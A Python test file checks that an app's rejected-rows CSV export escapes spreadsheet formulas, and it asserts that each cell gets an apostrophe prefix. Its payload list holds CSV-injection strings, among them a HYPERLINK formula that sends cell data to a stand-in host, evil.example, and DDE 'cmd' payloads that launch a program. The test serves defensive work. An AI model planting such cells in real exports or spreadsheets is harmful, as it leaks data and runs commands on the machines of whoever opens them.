"""The rejected-rows download escapes spreadsheet formulas (CSV injection), end to end."""

from __future__ import annotations

import csv
import io

import pytest
from cryptography.fernet import Fernet

from simulator import DEMO_CLIENT_ID, DEMO_CLIENT_SECRET, start_simulator
from store.db import create_db_and_tables, make_engine
from store.reports import rejected_rows_csv
from tests.fixtures import fast_sim_config, push_csv

# Each row has a bad email (so it is rejected) and a cell a spreadsheet would run.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "=1+1",
]


@pytest.fixture
def engine(tmp_path, monkeypatch):
    monkeypatch.setenv("PATHWAYS_DATA_DIR", str(tmp_path))
    monkeypatch.setenv("PATHWAYS_SECRET_KEY", Fernet.generate_key().decode())
    monkeypatch.setenv("PATHWAYS_DEMO", "1")
    eng = make_engine(f"sqlite:///{tmp_path / 'store.db'}")
    create_db_and_tables(eng)
    yield eng
    eng.dispose()


def test_rejected_rows_csv_escapes_every_formula_cell(engine):
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["email", "note"])
    writer.writerow(["ok@example.org", "fine"])
    for i, payload in enumerate(PAYLOADS):
        writer.writerow([f"=bad{i}", payload])  # the email itself is a formula too
    with start_simulator(fast_sim_config()) as sim:
        done = push_csv(
            engine,
            out.getvalue().encode(),
            auth_uri=sim.auth_uri,
            client_id=DEMO_CLIENT_ID,
            client_secret=DEMO_CLIENT_SECRET,
            text_column="note",
            text_length=200,
        )
    assert (done.state, done.rows_failed) == ("succeeded", len(PAYLOADS)), done.error
    data = rejected_rows_csv(engine, done.id)
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    header, body = rows[0], rows[1:]
    assert header[:2] == ["email", "note"]
    assert len(body) == len(PAYLOADS)
    for row in body:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    notes = {row[1] for row in body}
    assert notes == {"'" + p for p in PAYLOADS}  # escaped, not altered otherwise
